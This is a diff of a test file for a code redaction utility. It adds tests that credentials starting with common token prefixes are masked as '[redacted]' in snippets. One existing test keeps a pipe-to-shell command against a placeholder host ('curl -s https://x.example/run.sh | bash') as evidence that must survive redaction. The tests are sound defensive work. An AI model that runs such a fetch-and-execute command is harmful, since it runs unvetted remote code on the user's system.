@@ -1,5 +1,6 @@
 import { expect, test } from 'vitest';
 import { redactLine } from './redact.ts';
+import { snippetOf } from './snippet.ts';
 
 test.each([
   ['fetch("https://x.example/a?token=madeup123&b=1")', 'madeup123'],
@@ -10,6 +11,14 @@ test.each([
   expect(redactLine(line)).not.toContain(secret);
   expect(redactLine(line)).toContain('[redacted]');
 });
+
+test.each(['ghp_', 'glpat-', 'xoxb-', 'gsk_', 'nvapi-', 'tvly-'])(
+  'a snippet shows no credential that begins with %s',
+  (start) => {
+    const secret = `${start}${'made0up1'.repeat(4)}`;
+    expect(snippetOf(`use("${secret}")`)).toBe('use("[redacted]")');
+  },
+);
 
 test('what is evidence stays', () => {
   const line = 'curl -s https://x.example/run.sh | bash';
